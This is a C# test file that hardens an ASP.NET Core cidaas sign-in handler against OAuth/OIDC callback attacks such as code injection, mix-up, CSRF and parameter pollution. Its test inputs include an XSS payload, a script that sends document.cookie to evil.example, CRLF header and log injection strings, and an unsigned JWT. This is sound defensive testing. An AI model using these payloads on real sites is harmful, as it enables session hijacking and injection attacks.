using Microsoft.IdentityModel.JsonWebTokens;

namespace Cidaas.AspNetCore.Authentication.Tests.Hardening;

/// <summary>
/// Attacks on the authorization response (RFC 9700 §4.4–§4.7, RFC 6749 §10.6, §10.12, §10.14): each one ends in a clean
/// remote failure, with no token request when the attack is caught before it, no userinfo request and no sign-in cookie.
/// </summary>
public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(output)
{
    private const string Origin = TestApp.Origin;

    // RFC 9700 §4.5: authorization code injection.
    [Fact]
    public async Task Code_injected_from_another_session_is_refused_by_PKCE_at_the_token_endpoint_and_never_reaches_userinfo()
    {
        await StartAppAsync();
        var attackersCode = CallbackUrl.Parameter(await RunAttackersOwnAuthorizationAsync(), "code");
        var victimsCallback = await AuthorizeAsync(await ChallengeAsync());

        var response = await Browser.GetAsync(CallbackUrl.With(victimsCallback, ("code", attackersCode)));

        var failure = await ExpectFailureAsync(response, "CIDAAS2001");
        failure.Data["error"].Should().Be("invalid_grant");
        ((string)failure.Data["error_description"]!).Should().Contain("code_verifier", "the verifier of the victim's session does not fit the attacker's code");
        TokenRequests.Should().Be(1);
        UserInfoRequests.Should().Be(0);
    }

    [Fact]
    public async Task Code_injected_from_another_session_without_PKCE_is_refused_by_the_nonce_before_userinfo()
    {
        await StartAppAsync(o => o.UsePkce = false);
        var attackersCode = CallbackUrl.Parameter(await RunAttackersOwnAuthorizationAsync(loginHint: "bob"), "code");
        var victimsCallback = await AuthorizeAsync(await ChallengeAsync());

        var response = await Browser.GetAsync(CallbackUrl.With(victimsCallback, ("code", attackersCode)));

        var failure = await ExpectFailureAsync(response, "CIDAAS3002");
        failure.Message.Should().Contain("nonce");
        UserInfoRequests.Should().Be(0, "the victim must not end up signed in as the attacker (bob)");
    }

    // RFC 9700 §4.7 / RFC 6749 §10.12: login CSRF with a complete authorization response of the attacker.
    [Fact]
    public async Task Attackers_complete_callback_opened_in_a_browser_with_its_own_pending_sign_in_fails_correlation()
    {
        await StartAppAsync();
        var attackersCallback = await RunAttackersOwnAuthorizationAsync();
        await ChallengeAsync(); // the victim's own sign-in is pending: a correlation cookie of another flow is present

        var response = await Browser.GetAsync(attackersCallback.ToString());

        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
    }

    [Fact]
    public async Task Correlation_cookie_with_the_right_name_but_a_forged_value_is_refused()
    {
        var callback = await StartAppAndAuthorizeAsync();
        var correlation = CorrelationCookieName();

        var response = await SendWithCookieHeaderAsync(callback.ToString(), $"{correlation}=forged");

        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
    }

    [Fact]
    public async Task A_flood_of_forged_correlation_cookies_does_not_stand_in_for_the_real_one()
    {
        var callback = await StartAppAndAuthorizeAsync();
        var forged = string.Join("; ", Enumerable.Range(0, 300).Select(i => $".AspNetCore.Correlation.forged{i}=N"));

        var response = await SendWithCookieHeaderAsync(callback.ToString(), forged);

        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
    }

    [Fact]
    public async Task Each_pending_sign_in_needs_its_own_correlation_cookie()
    {
        await StartAppAsync();
        var first = await AuthorizeAsync(await ChallengeAsync());
        var firstCookie = CorrelationCookieName();
        var second = await AuthorizeAsync(await ChallengeAsync());

        // Only the first flow's cookie goes along with the second flow's state.
        var response = await SendWithCookieHeaderAsync(second.ToString(), $"{firstCookie}=N");

        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
        (await Browser.GetAsync(first.ToString())).StatusCode.Should().Be(HttpStatusCode.Redirect, "the first flow is untouched");
        HasSignInCookie().Should().BeTrue();
    }

    [Fact]
    public async Task State_of_a_sign_out_replayed_at_the_sign_in_callback_is_refused()
    {
        await StartAppAsync();
        await SignInAsync();
        var signOut = await Browser.GetAsync(Origin + "/signout");
        var signOutState = CallbackUrl.Parameter(signOut.Headers.Location!, "state");
        var callback = await AuthorizeAsync(await ChallengeAsync());

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("state", signOutState)));

        await ExpectFailureAsync(response, "CIDAAS1010");
        TokenRequests.Should().Be(1, "only the first, genuine sign-in redeemed a code");
    }

    // RFC 9700 §4.4: mix-up between two identity providers, caught by RFC 9207's iss.
    [Fact]
    public async Task Authorization_response_of_another_issuer_delivered_to_a_scheme_is_refused_as_a_mix_up_before_any_code_exchange()
    {
        SendAuthorizationResponseIssuer(EmulatorOptions);
        var otherOptions = TestClients.CreateEmulatorOptions("https://other-idp.test");
        SendAuthorizationResponseIssuer(otherOptions);
        await using var otherIdp = await CidaasEmulator.CreateAsync(otherOptions);
        await StartAppAsync(configureAuthentication: a => AddSecondScheme(a, otherIdp));
        Browser.Register(otherIdp.Authority, otherIdp.CreateHandler());

        // The user signs in with scheme B; B's (malicious) IdP forwards the authorization request, state and PKCE
        // challenge included, to the honest IdP, which sends its code back to B's callback.
        var atB = (await Browser.GetAsync(Origin + "/login?scheme=CidaasB")).Headers.Location!;
        atB.GetLeftPart(UriPartial.Authority).Should().Be(otherIdp.Authority);
        var forwarded = new Uri(Emulator.Authority + atB.PathAndQuery);
        var callback = await AuthorizeAsync(forwarded);
        callback.AbsolutePath.Should().Be("/signin-cidaas-b");
        CallbackUrl.Parameter(callback, "iss").Should().Be(Emulator.Authority);

        var response = await Browser.GetAsync(callback.ToString());

        await ExpectFailureAsync(response, "CIDAAS1006");
        otherIdp.CountRequests(CidaasDefaults.TokenPath).Should().Be(0, "the honest IdP's code must never reach the other IdP's token endpoint");
        TokenRequests.Should().Be(0);
    }

    [Fact]
    public async Task Error_response_with_a_foreign_issuer_is_refused_as_a_mix_up_and_not_treated_as_access_denied()
    {
        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("code", null), ("error", "access_denied"), ("iss", "https://evil.example")), "CIDAAS1006", o => o.AccessDeniedPath = "/forbidden");
    }

    [Theory]
    [InlineData("")]
    [InlineData("https://cidaas.test/")]
    [InlineData("HTTPS://CIDAAS.TEST")]
    [InlineData("https://cidaas.test ")]
    [InlineData("https://cidaas.test.evil.example")]
    public async Task Iss_that_is_empty_or_not_byte_identical_to_the_issuer_is_refused(string iss)
    {
        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("iss", iss)), "CIDAAS1006");
    }

    [Fact]
    public async Task Iss_is_checked_even_when_cidaas_does_not_announce_it()
    {
        EmulatorOptions.AdvertiseAuthorizationResponseIss = false;
        EmulatorOptions.SendIssInAuthorizationResponse = false;

        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("iss", "https://evil.example")), "CIDAAS1006");
    }

    // RFC 9700 §4.6: tokens in the front channel are never accepted.
    [Theory]
    [InlineData("access_token")]
    [InlineData("id_token")]
    public async Task Token_injected_into_the_callback_instead_of_a_code_is_ignored(string parameter)
    {
        var callback = await StartAppAndAuthorizeAsync();

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), (parameter, "eyJhbGciOiJub25lIn0.eyJzdWIiOiJldmlsIn0."), ("token_type", "Bearer")));

        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1005");
        UserInfoRequests.Should().Be(0);
    }

    [Fact]
    public async Task Id_token_of_another_user_injected_next_to_a_genuine_code_is_ignored()
    {
        await StartAppAsync();
        var bobsIdToken = await SignInAnotherBrowserAndTakeIdTokenAsync("bob");
        var callback = await AuthorizeAsync(await ChallengeAsync());

        var afterCallback = await Browser.GetAsync(CallbackUrl.With(callback, ("id_token", bobsIdToken)));
        var page = await Browser.FollowAsync(new Uri(new Uri(Origin), afterCallback.Headers.Location!).ToString());

        var claims = await page.Content.ReadAsStringAsync();
        var alice = EmulatorOptions.Users.Single(u => u.Username == "alice");
        claims.Should().Contain("sub|" + alice.Sub).And.NotContain("bob@example.com");
    }

    // Parameter pollution and malformed authorization responses.
    [Theory]
    [InlineData("error")]
    [InlineData("error_description")]
    [InlineData("error_uri")]
    public async Task Callback_with_a_duplicated_error_parameter_is_rejected(string parameter)
    {
        await ExpectAlteredCallbackRejectedAsync(callback => callback + $"&{parameter}=one&{parameter}=two", "CIDAAS1008");
    }

    [Theory]
    [InlineData("STATE")]
    [InlineData("Code")]
    [InlineData("ISS")]
    public async Task Parameter_names_that_differ_only_in_case_count_as_duplicates(string spelling)
    {
        SendAuthorizationResponseIssuer(EmulatorOptions);
        await ExpectAlteredCallbackRejectedAsync(callback => callback + $"&{spelling}=smuggled", "CIDAAS1008");
    }

    [Fact]
    public async Task Code_and_error_together_are_an_error_and_the_code_is_not_redeemed()
    {
        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("error", "server_error")), "CIDAAS1012");
    }

    [Fact]
    public async Task Empty_code_is_refused_without_a_token_request()
    {
        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("code", "")), "CIDAAS1005");
    }

    [Theory]
    [InlineData("state=%ZZ%&code=%")]
    [InlineData("state=%FF%FE%00&code=%C0%AF")]
    [InlineData("state=%E0%A4%A&code=abc%")]
    [InlineData("state=CfDJ8%0d%0aSet-Cookie:%20x=y&code=1")]
    [InlineData("state&code&iss")]
    [InlineData("=&==&state==&&&")]
    public async Task Query_with_invalid_percent_encoding_or_no_values_is_a_clean_failure(string rawQuery)
    {
        await StartAppAsync();
        await AuthorizeAsync(await ChallengeAsync());
        var cookies = new KeyValuePair<string, string>("Cookie", Browser.Cookies.GetCookieHeader(new Uri(Origin + CidaasDefaults.CallbackPath)));

        var response = await RawRequest.SendAsync(App.Server, "GET", CidaasDefaults.CallbackPath, rawQuery, [cookies]);

        response.StatusCode.Should().Be(400, response.Body);
        response.Body.Should().MatchRegex("CIDAAS100[12]").And.NotContain(" at ");
        App.Failures.Should().ContainSingle().Which.Should().BeOfType<CidaasProtocolException>();
        App.Logs.Lines.Should().Contain(l => l.Contains("/signin-cidaas?" + rawQuery, StringComparison.Ordinal), "the query arrived unaltered");
        response.SetCookies.Should().NotContain(c => c.StartsWith("x=", StringComparison.Ordinal));
        response.SetsSignInCookie.Should().BeFalse();
        TokenRequests.Should().Be(0);
    }

    [Fact]
    public async Task Oversized_state_is_refused_cleanly_and_not_echoed()
    {
        var callback = await StartAppAndAuthorizeAsync();
        var huge = "CfDJ8" + new string('A', 1024 * 1024);

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("state", huge)));

        await ExpectFailureAsync(response, "CIDAAS1002");
        (await response.Content.ReadAsStringAsync()).Length.Should().BeLessThan(1024);
        TokenRequests.Should().Be(0);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Oversized_query_of_junk_parameters_neither_breaks_nor_bypasses_the_checks(bool genuineState)
    {
        var callback = await StartAppAndAuthorizeAsync();
        var junk = string.Join('&', Enumerable.Range(0, 5000).Select(i => $"p{i}=" + new string('x', 50)));
        var target = genuineState ? callback : new Uri(CallbackUrl.With(callback, ("state", "CfDJ8forged")));

        var response = await Browser.GetAsync(target + "&" + junk);

        if (genuineState)
        {
            response.StatusCode.Should().Be(HttpStatusCode.Redirect, await response.Content.ReadAsStringAsync());
            HasSignInCookie().Should().BeTrue();
        }
        else
        {
            await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1002");
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Oversized_cookie_header_neither_breaks_nor_bypasses_the_correlation_check(bool withTheRealCookie)
    {
        var callback = await StartAppAndAuthorizeAsync();
        var real = withTheRealCookie ? $"{CorrelationCookieName()}=N; " : "";
        var junk = string.Join("; ", Enumerable.Range(0, 64).Select(i => $"junk{i}=" + new string('j', 1024)));

        var response = await SendWithCookieHeaderAsync(callback.ToString(), real + junk);

        if (withTheRealCookie)
        {
            response.StatusCode.Should().Be(HttpStatusCode.Redirect, await response.Content.ReadAsStringAsync());
            App.Failures.Should().BeEmpty();
        }
        else
        {
            await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
        }
    }

    [Theory]
    [InlineData("HEAD")]
    [InlineData("PUT")]
    [InlineData("DELETE")]
    [InlineData("PATCH")]
    [InlineData("OPTIONS")]
    public async Task Callback_with_a_method_other_than_GET_is_a_clean_failure(string method)
    {
        var callback = await StartAppAndAuthorizeAsync();

        var response = await Browser.SendAsync(new HttpMethod(method), callback.ToString());

        response.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        App.Failures.Should().ContainSingle().Which.Message.Should().StartWith("CIDAAS1009");
        TokenRequests.Should().Be(0);
        HasSignInCookie().Should().BeFalse();
    }

    // What cidaas (or an attacker) writes into error_description reaches the developer, never the page as markup.
    [Fact]
    public async Task Error_description_with_markup_is_served_as_uncached_nosniff_plain_text()
    {
        var callback = await StartAppAndAuthorizeAsync();

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "invalid_request"), ("error_description", "<img src=x onerror=alert(1)>")));

        await ExpectFailureAsync(response, "CIDAAS1012");
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/plain");
        response.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
        response.Headers.CacheControl!.NoStore.Should().BeTrue();
    }

    [Fact]
    public async Task Token_endpoint_error_description_with_script_is_served_as_plain_text()
    {
        await StartAppAsync();

        var response = await CallbackAfterAsync(next => next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
            400, """{"error":"invalid_grant","error_description":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}""", "application/json")));

        await ExpectFailureAsync(response, "CIDAAS2001");
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/plain");
        response.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
    }

    [Fact]
    public async Task Error_description_with_line_breaks_cannot_forge_a_header_or_a_log_line()
    {
        var callback = await StartAppAndAuthorizeAsync();

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "invalid_request"), ("error_description", "bad\r\nSet-Cookie: pwned=1\r\nInformation Forged[0]: admin signed in")));

        var failure = await ExpectFailureAsync(response, "CIDAAS1012");
        failure.Message.Should().NotContainAny("\r", "\n");
        response.Headers.Should().NotContain(h => h.Key == "Set-Cookie" && h.Value.Any(v => v.Contains("pwned", StringComparison.Ordinal)));
        App.Logs.Lines.SelectMany(l => l.Split('\n')).Should().NotContain(l => l.TrimStart().StartsWith("Information Forged", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Huge_error_description_is_cut_short_on_the_page_and_in_the_log()
    {
        var callback = await StartAppAndAuthorizeAsync();
        var huge = new string('E', 100_000);

        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "server_error"), ("error_description", huge)));

        await ExpectFailureAsync(response, "CIDAAS1012");
        (await response.Content.ReadAsStringAsync()).Length.Should().BeLessThan(1024);
        App.Logs.Lines.Where(l => l.Contains("CidaasHandler", StringComparison.Ordinal)).Should().OnlyContain(l => l.Length < 2048);
    }

    // RFC 6749 §10.3, §10.5, RFC 9700 §4.2–§4.3: secrets stay in the back channel.
    [Fact]
    public async Task Tokens_and_the_verifier_never_appear_in_a_front_channel_url()
    {
        await StartAppAsync();
        await SignInAsync();

        var verifier = Emulator.Requests.Single(r => r.Path == CidaasDefaults.TokenPath).Form["code_verifier"];
        var secrets = App.SeenSecrets.Append(verifier).ToList();
        secrets.Should().HaveCountGreaterThan(2);
        var urls = Browser.Hops.SelectMany(h => new[] { h.RequestMessage?.RequestUri?.ToString(), h.Headers.Location?.ToString() }).OfType<string>().ToList();
        urls.Should().NotBeEmpty();
        foreach (var secret in secrets)
        {
            urls.Should().NotContain(u => u.Contains(secret, StringComparison.Ordinal) || u.Contains(Uri.EscapeDataString(secret), StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task Client_secret_is_sent_to_the_token_endpoint_and_nowhere_else()
    {
        await StartAppAsync();
        await SignInAsync();
        await Browser.GetAsync(Origin + "/signout");

        var carriers = Emulator.Requests.Where(r =>
            r.Form.Values.Any(v => v.Contains(TestClients.ClientSecret, StringComparison.Ordinal))
            || r.Headers.ContainsKey("Authorization") && r.Headers["Authorization"].StartsWith("Basic", StringComparison.Ordinal)
            || r.QueryString.Contains(Uri.EscapeDataString(TestClients.ClientSecret), StringComparison.Ordinal)).ToList();

        carriers.Should().ContainSingle().Which.Path.Should().Be(CidaasDefaults.TokenPath);
        Emulator.Requests.Select(r => r.Path).Should().Contain([CidaasDefaults.AuthorizationPath, CidaasDefaults.UserInformationPath, CidaasDefaults.DiscoveryPath]);
    }

    [Fact]
    public async Task Every_challenge_has_a_fresh_state_correlation_verifier_and_nonce()
    {
        await StartAppAsync();

        var first = QueryOf(await ChallengeAsync());
        var second = QueryOf(await ChallengeAsync());

        foreach (var name in new[] { "state", "code_challenge", "nonce" })
        {
            first[name].Should().NotBe(second[name], $"each sign-in needs its own {name}");
        }

        first["nonce"].Length.Should().BeGreaterThanOrEqualTo(43, "a nonce carries at least 256 bits");
        first["code_challenge_method"].Should().Be("S256");
        Browser.Cookies.GetAllCookies().Count(c => c.Name.StartsWith(".AspNetCore.Correlation.", StringComparison.Ordinal)).Should().Be(2);
    }

    [Fact]
    public async Task Token_endpoint_that_echoes_the_secret_and_the_code_in_its_error_leaks_neither_to_page_log_or_failure()
    {
        var callback = await StartAppAndAuthorizeAsync();
        var code = CallbackUrl.Parameter(callback, "code");
        var echo = $"client_secret '{TestClients.ClientSecret}' is wrong for code {code}";
        Emulator.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
            401, $$"""{"error":"invalid_client {{code}}","error_description":{{System.Text.Json.JsonSerializer.Serialize(echo)}}}""", "application/json"));

        var response = await Browser.GetAsync(callback.ToString());

        var failure = await ExpectFailureAsync(response, "CIDAAS2001");
        var page = await response.Content.ReadAsStringAsync();
        page.Should().NotContain(TestClients.ClientSecret).And.NotContain(code);
        failure.Message.Should().NotContain(TestClients.ClientSecret).And.NotContain(code);
        ((string?)failure.Data["error_description"]).Should().NotContain(TestClients.ClientSecret).And.NotContain(code);
        ((string?)failure.Data["error"]).Should().NotContain(code);
        failure.Message.Should().Contain("is wrong for code", "the rest of cidaas's explanation still reaches the developer");
    }

    [Theory]
    [InlineData(307)]
    [InlineData(308)]
    [InlineData(302)]
    public async Task Token_endpoint_redirect_is_not_followed_by_the_default_back_channel_so_secret_and_code_stay(int status)
    {
        // A real socket and the package's own IHttpClientFactory client: a followed 307/308 would re-POST the form.
        await using var cidaas = await CidaasEmulator.StartAsync(TestClients.CreateEmulatorOptions());
        await StartAppAsync(o =>
        {
            o.Authority = cidaas.Authority;
            o.BackchannelHttpHandler = null;
        });
        Browser.Register(cidaas.Authority, cidaas.CreateHandler());
        var challenge = await Browser.GetAsync(Origin + "/protected");
        var callback = await AuthorizeAsync(challenge.Headers.Location!);
        cidaas.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(status, "", headers: new Dictionary<string, string> { ["Location"] = cidaas.Authority + "/steal" }));

        var response = await Browser.GetAsync(callback.ToString());

        (await ExpectFailureAsync(response, "CIDAAS2002")).StatusCode.Should().Be(status);
        cidaas.CountRequests(CidaasDefaults.TokenPath).Should().Be(1);
        cidaas.CountRequests("/steal").Should().Be(0, "the form with the client secret and the code is never sent anywhere else");
    }

    /// <summary>The attacker signs in in their own browser and stops at the callback, holding their own code and state.</summary>
    private async Task<Uri> RunAttackersOwnAuthorizationAsync(string? loginHint = null)
    {
        var attacker = new TestBrowser()
            .Register(Origin, App.CreateHandler())
            .Register(Emulator.Authority, Emulator.CreateHandler());
        var authorization = (await attacker.GetAsync(Origin + "/protected")).Headers.Location!;
        var url = loginHint is null ? authorization.ToString() : authorization + "&login_hint=" + loginHint;
        var callback = (await attacker.GetAsync(url)).Headers.Location!;
        callback.AbsolutePath.Should().Be(CidaasDefaults.CallbackPath);
        return callback;
    }

    private async Task<string> SignInAnotherBrowserAndTakeIdTokenAsync(string loginHint)
    {
        var other = new TestBrowser()
            .Register(Origin, App.CreateHandler())
            .Register(Emulator.Authority, Emulator.CreateHandler());
        var authorization = (await other.GetAsync(Origin + "/protected")).Headers.Location!;
        var callback = (await other.GetAsync(authorization + "&login_hint=" + loginHint)).Headers.Location!;
        (await other.GetAsync(callback.ToString())).StatusCode.Should().Be(HttpStatusCode.Redirect);
        var user = EmulatorOptions.Users.Single(u => u.Username == loginHint);
        return App.SeenSecrets.Single(t => t.Count(c => c == '.') == 2 && IsIdTokenOf(t, user.Sub));
    }

    private static bool IsIdTokenOf(string token, string subject)
    {
        try
        {
            var jwt = new JsonWebToken(token);
            // cidaas's access tokens carry the nonce too; 'at_hash' is the id_token's own.
            return jwt.Subject == subject && jwt.TryGetPayloadValue<string>("at_hash", out _);
        }
        catch (ArgumentException)
        {
            return false;
        }
    }

    private string CorrelationCookieName()
        => Browser.Cookies.GetAllCookies()
            .Where(c => c.Name.StartsWith(".AspNetCore.Correlation.", StringComparison.Ordinal) && !c.Expired)
            .OrderByDescending(c => c.TimeStamp)
            .First().Name;

    private Task<HttpResponseMessage> SendWithCookieHeaderAsync(string url, string cookieHeader)
        => Browser.SendAsync(HttpMethod.Get, url, configure: request =>
        {
            request.Headers.Remove("Cookie");
            request.Headers.TryAddWithoutValidation("Cookie", cookieHeader);
        });
}
